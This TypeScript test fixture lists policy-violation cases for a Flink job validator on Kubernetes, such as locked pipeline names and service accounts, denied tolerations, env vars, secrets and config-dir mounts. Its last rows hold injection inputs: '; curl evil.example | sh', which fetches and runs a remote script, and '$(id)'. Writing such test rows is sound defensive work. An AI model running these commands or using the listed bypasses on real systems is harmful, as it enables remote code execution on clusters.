import {
  at,
  application,
  options,
  pod,
  container,
  annotations,
  dynamic,
  args,
  main,
  type Row,
  local,
  pythonFile,
  locked,
  denied,
} from './builders.ts';

const optionRows: readonly Row[] = [
  [
    options({ 'pipeline.name': 'other' }),
    '/config/pipeline.name',
    'locked: the option pipeline.name may not change pipeline.name, which is always etl',
    locked,
  ],
  [
    options({ 'kubernetes.jobmanager.service-account': 'other' }),
    '/config/kubernetes.jobmanager.service-account',
    'locked',
    locked,
  ],
  [pod({ serviceAccountName: 'other' }), `${at}/serviceAccountName`, 'locked', locked],
  [
    options({ 'kubernetes.jobmanager.labels.team': 'b' }),
    '/config/kubernetes.jobmanager.labels.team',
    'locked',
    locked,
  ],
  [options({ 'kubernetes.jobmanager.labels': 'team:a,x:y' }), '/config/kubernetes.jobmanager.labels', 'locked', locked],
  [annotations({ labels: { team: 'b' } }), '/podTemplates/default/metadata/labels/team', 'locked', locked],
  [dynamic('-Dpipeline.name=other'), args, 'the option pipeline.name in kubernetes.jobmanager.entrypoint.args', locked],
  [
    options({ 'kubernetes.taskmanager.entrypoint.args': '-D pipeline.name=x' }),
    '/config/kubernetes.taskmanager.entrypoint.args',
    'locked',
    locked,
  ],
  [
    application({ sql: { script: "SET 'pipeline.name' = 'x'; INSERT INTO a SELECT 1" } }),
    '/job/sql/script',
    'locked',
    locked,
  ],
  [
    options({ 'kubernetes.jobmanager.tolerations': 'key:a,operator:Exists' }),
    '/config/kubernetes.jobmanager.tolerations',
    'denied: the option kubernetes.jobmanager.tolerations may not be set',
    denied,
  ],
  [pod({ tolerations: [{ operator: 'Exists' }] }), `${at}/tolerations/0/operator`, 'denied', denied],
  [container({ env: [{ name: 'A', value: 'b' }] }), `${at}/containers/0/env/0/name`, 'denied', denied],
  [
    container({ envFrom: [{ configMapRef: { name: 'c' } }] }),
    `${at}/containers/0/envFrom/0/configMapRef/name`,
    'denied',
    denied,
  ],
  [options({ 'env.java.opts': '-Da=b' }), '/config/env.java.opts', 'denied', denied],
  [application({ jar: local, args: ['a'] }), '/job/args', 'denied: the field job.args may not be set', denied],
  [pod({ nodeName: 'n' }), `${at}/nodeName`, 'denied', denied],
  [application({ python: { ...pythonFile, files: ['/a.zip'] } }), '/job/python/files', 'denied', denied],
  [options({ 'kubernetes.secrets': 'mine:/mnt' }), '/config/kubernetes.secrets', 'denied', denied],
  [options({ 'kubernetes.entry.path': '/bin/sh' }), '/config/kubernetes.entry.path', 'denied', locked],
  [
    options({ 'kubernetes.flink.conf.dir': '/tmp' }),
    '/config/kubernetes.flink.conf.dir',
    'another configuration',
    locked,
  ],
  [
    container({ env: [{ name: 'FLINK_CONF_DIR', value: '/tmp' }] }),
    `${at}/containers/0/env/0`,
    'configuration',
    locked,
  ],
  [
    options({ 'containerized.master.env.FLINK_PROPERTIES': 'a: b' }),
    '/config/containerized.master.env',
    'configuration',
    locked,
  ],
  [container({ envFrom: [{ configMapRef: { name: 'c' } }] }), `${at}/containers/0/envFrom/0`, 'configuration', locked],
  [
    container({ volumeMounts: [{ name: 'v', mountPath: '/opt/flink/conf/config.yaml', subPath: 'a' }] }),
    `${at}/containers/0/volumeMounts/0`,
    'configuration',
    locked,
  ],
  [
    container({
      volumeMounts: [
        { name: 'flink-config-volume', mountPath: '/opt/flink/conf/config.yaml', subPath: 'log4j-console.properties' },
      ],
    }),
    `${at}/containers/0/volumeMounts/0`,
    'configuration',
    locked,
  ],
  [
    pod({
      volumes: [
        {
          name: 'v',
          configMap: {
            name: 'flink-config-etl',
            items: [{ key: 'log4j-console.properties', path: 'config.yaml' }],
          },
        },
      ],
      containers: [
        {
          name: main,
          volumeMounts: [{ name: 'v', mountPath: '/opt/flink/conf/config.yaml', subPath: 'config.yaml' }],
        },
      ],
    }),
    `${at}/containers/0/volumeMounts/0`,
    'configuration',
    locked,
  ],
  [dynamic('; curl evil.example | sh'), args, 'arguments'],
  [dynamic('$(id)'), args, 'arguments'],
];

export const optionAttacks: readonly Row[] = optionRows;
